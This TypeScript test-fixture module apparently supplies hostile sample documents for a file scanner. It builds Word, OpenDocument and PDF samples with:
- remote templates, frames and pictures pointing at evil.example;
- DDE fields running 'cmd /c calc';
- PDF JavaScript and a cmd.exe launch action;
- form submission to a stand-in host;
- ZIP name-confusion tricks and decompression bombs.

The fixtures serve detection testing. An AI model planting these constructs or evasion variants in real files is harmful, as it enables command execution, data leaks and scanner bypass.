import { aPackedPdf, aPdf, aPdfBomb } from "./pdf-document.ts";
import { aField, anOpenDocument, aRelationship, aWordDocument } from "./word-document.ts";
import type { Entry } from "./zip-archive.ts";

type Documents = Readonly<Record<string, () => Buffer>>;

const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

/** Name in the local header of an entry, which scanners that read from the beginning see. */
const twoNames: Entry = { name: "word/media/image2.png", localName: "word/media/image2.exe", text: "x" };

/** An Info-ZIP field with a third name. */
const unicodePath = Buffer.concat([Buffer.from([0x75, 0x70, 10, 0, 1, 0, 0, 0, 0]), Buffer.from("b.exe")]);

export const ACTIVE_WORD_DOCUMENTS: Documents = {
  "a remote template": () =>
    aWordDocument({ settings: [aRelationship("attachedTemplate", "https://evil.example/t.dotm")] }),
  "a template on a share": () =>
    aWordDocument({ settings: [aRelationship("attachedTemplate", "file://evil.example/share/t.dotx")] }),
  "a template on a share, in backslashes": () =>
    aWordDocument({ settings: [aRelationship("attachedTemplate", "\\\\evil.example\\share\\t.dotx")] }),
  "a template on a share, encoded": () =>
    aWordDocument({ settings: [aRelationship("attachedTemplate", "file:///%5C%5Cevil.example%5Ct.dotx")] }),
  "a remote object": () =>
    aWordDocument({ relationships: [aRelationship("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://e")] }),
  "a remote frame": () => aWordDocument({ relationships: [aRelationship("frame", "https://evil.example/")] }),
  "a remote part": () => aWordDocument({ relationships: [aRelationship("subDocument", "https://evil.example/")] }),
  "a remote picture": () =>
    aWordDocument({ relationships: [aRelationship("image", "https://evil.example/pixel.png")] }),
  "a remote picture, spelled otherwise": () =>
    aWordDocument({
      relationships: [
        "<Relationship Target='&#104;ttps://evil.example/' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/image' TargetMode='&#69;xternal' Id='x'/>",
      ],
    }),
  "a remote picture of VML": () =>
    aWordDocument({ body: '<v:imagedata xmlns:v="urn:v" src="https://evil.example/"/>' }),
  "a DDE field": () => aWordDocument({ body: aField(' DDE "cmd" "/c calc" ') }),
  "a DDEAUTO field over runs": () => aWordDocument({ body: aField(" DD", "EAU", 'TO "cmd" "/c calc"') }),
  "a DDEAUTO field in an attribute": () =>
    aWordDocument({ body: '<w:fldSimple w:instr=" ddeauto cmd "><w:r/></w:fldSimple>' }),
  "a field named by another one": () =>
    aWordDocument({
      body: `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${aField(" QUOTE 68 68 69 ")}<w:r><w:instrText> x</w:instrText></w:r>`,
    }),
  "a linked object": () => aWordDocument({ body: aField(' LINK Excel.Sheet.8 "C:\\\\x.xls" "" \\a ') }),
  "a picture field": () => aWordDocument({ body: aField(' INCLUDEPICTURE "https://evil.example/p.png" \\d ') }),
  "a database field": () => aWordDocument({ body: aField(' DATABASE \\d "x" ') }),
  "an embedded object": () => aWordDocument({ body: '<o:OLEObject xmlns:o="urn:o" Type="Embed" ProgID="Package"/>' }),
  "an embedded object by its relationship": () =>
    aWordDocument({ relationships: [aRelationship("oleObject", "embeddings/oleObject1.bin", false)] }),
  "another document inside": () => aWordDocument({ relationships: [aRelationship("aFChunk", "afchunk.mht", false)] }),
  "a document type": () =>
    aWordDocument({
      entries: [{ name: "customXml/item1.xml", text: '<!DOCTYPE a SYSTEM "https://evil.example/"><a/>' }],
    }),
  "a remote template in UTF-16": () =>
    aWordDocument({
      entries: [
        {
          name: "word/_rels/footer1.xml.rels",
          text: Buffer.from(
            `\ufeff<Relationships>${aRelationship("image", "https://evil.example/pixel.png")}</Relationships>`,
            "utf16le",
          ),
        },
      ],
    }),
};

export const UNSAFE_WORD_DOCUMENTS: Documents = {
  macros: () => aWordDocument({ entries: [{ name: "word/vbaProject.bin", text: "x" }] }),
  "an OLE file": () =>
    aWordDocument({
      entries: [{ name: "word/embeddings/o.bin", text: Buffer.from("d0cf11e0a1b11ae1", "hex"), stored: true }],
    }),
};

export const UNREADABLE_WORD_DOCUMENTS: Documents = {
  "an entry with two names": () => aWordDocument({ entries: [twoNames] }),
  "an entry with another name in an extra field": () =>
    aWordDocument({ entries: [{ name: "a.png", text: "x", extra: unicodePath }] }),
  "two entries of one name": () => aWordDocument({ entries: [{ name: "word/Settings.xml", text: "<a/>" }] }),
  "a file that is not well-formed": () => aWordDocument({ entries: [{ name: "word/a.xml", text: "<a><b></a>" }] }),
  "a file in another encoding": () =>
    aWordDocument({ entries: [{ name: "word/a.xml", text: '<?xml version="1.0" encoding="utf-7"?><a/>' }] }),
  "a bomb": () => aWordDocument({ entries: [{ name: "word/a.xml", text: `<a>${" ".repeat(40_000_000)}</a>` }] }),
};

export const ACTIVE_OPEN_DOCUMENTS: Documents = {
  "a macro at an event": () => anOpenDocument('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
  "a DDE source": () => anOpenDocument("<office:dde-source/>"),
  "an OLE object": () => anOpenDocument('<draw:object-ole xlink:href="./Object 1"/>'),
  "a frame": () => anOpenDocument('<draw:floating-frame xlink:href="x"/>'),
  "a remote picture": () => anOpenDocument('<draw:image xlink:href="https://evil.example/pixel.png"/>'),
  "a section of another machine": () => anOpenDocument('<text:section-source xlink:href="//evil.example/x.odt"/>'),
};

export const ACTIVE_PDFS: Documents = {
  JavaScript: () => aPdf({ catalog: `/OpenAction ${script}` }),
  "JavaScript in its names": () => aPdf({ catalog: "/Names << /JavaScript 10 0 R >>" }),
  "JavaScript with an encoded name": () => aPdf({ catalog: "/OpenAction << /S /J#61vaScr#69pt /J#53 (x) >>" }),
  "JavaScript in an object stream": () => aPackedPdf({ objects: { 10: script } }),
  "JavaScript in an object stream without its type": () =>
    Buffer.from(
      aPackedPdf({ objects: { 10: script } })
        .toString("latin1")
        .replace("/Type /ObjStm", "/Type /X"),
      "latin1",
    ),
  "JavaScript in a comment": () => aPdf({ objects: { 10: `<< >> % 11 0 obj ${script} endobj` } }),
  "JavaScript in a stream": () =>
    aPdf({ objects: { 10: `<< /Length 1 >>\nstream\n11 0 obj\n${script}\nendobj\nendstream` } }),
  "JavaScript in a string": () =>
    aPdf({ objects: { 10: `<< /A (\n11 0 obj ${script.replaceAll(/[()\\]/g, "")} ) >>` } }),
  "an opening action that follows a link": () =>
    aPdf({ catalog: "/OpenAction << /S /URI /URI (https://evil.example/) >>" }),
  "an opening action elsewhere": () =>
    aPdf({ catalog: "/OpenAction 10 0 R", objects: { 10: "<< /S 11 0 R >>", 11: "/URI" } }),
  "an opening action after a harmless one": () =>
    aPdf({
      catalog: "/OpenAction << /S /GoTo /D [3 0 R] /Next [10 0 R] >>",
      objects: { 10: "<< /S /URI /URI (x) >>" },
    }),
  "an action of a page": () => aPdf({ objects: { 10: "<< /AA << /O << /S /GoToR /F (//evil/x.pdf) >> >> >>" } }),
  "a program that is launched": () => aPdf({ objects: { 10: "<< /S /Launch /F (cmd.exe) >>" } }),
  "a form that is sent": () => aPdf({ objects: { 10: "<< /S /SubmitForm /F (https://evil.example/) >>" } }),
  "data that is imported": () => aPdf({ objects: { 10: "<< /S /ImportData /F (x.fdf) >>" } }),
  "embedded files": () => aPdf({ catalog: "/Names << /EmbeddedFiles 10 0 R >>" }),
  "an embedded file without its type": () =>
    aPdf({ objects: { 10: "<< /Type /Filespec /F (x.exe) /EF << /F 11 0 R >> >>" } }),
  "an attached file": () => aPdf({ objects: { 10: "<< /Subtype /FileAttachment >>" } }),
  "rich media": () => aPdf({ objects: { 10: "<< /Subtype /RichMedia >>" } }),
  "a form of XFA": () => aPdf({ catalog: "/AcroForm << /XFA 10 0 R >>" }),
  "a stream in another file": () =>
    aPdf({ objects: { 10: "<< /F (https://evil.example/) /Length 0 >>\nstream\n\nendstream" } }),
};

export const UNREADABLE_PDFS: Documents = {
  encryption: () => aPdf({ trailer: "/Encrypt << /Filter /Standard /V 4 >>" }),
  "encryption with object streams": () => aPackedPdf({ trailer: "/Encrypt 10 0 R" }),
  "an object stream with another filter": () =>
    aPdf({
      objects: { 10: "<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 1 >>\nstream\nx\nendstream" },
    }),
  "an object stream that cannot be unpacked": () =>
    aPdf({ objects: { 10: "<< /Type /ObjStm /N 1 /First 4 /Filter /Fl /Length 1 >>\nstream\nx\nendstream" } }),
  "a bomb": () => aPdfBomb(60_000_000),
  "endless nesting": () => aPdf({ objects: { 10: "[".repeat(100_000) } }),
  "overlapping objects": () => Buffer.concat([aPdf(), Buffer.from("9 0 obj(".repeat(400_000))]),
};
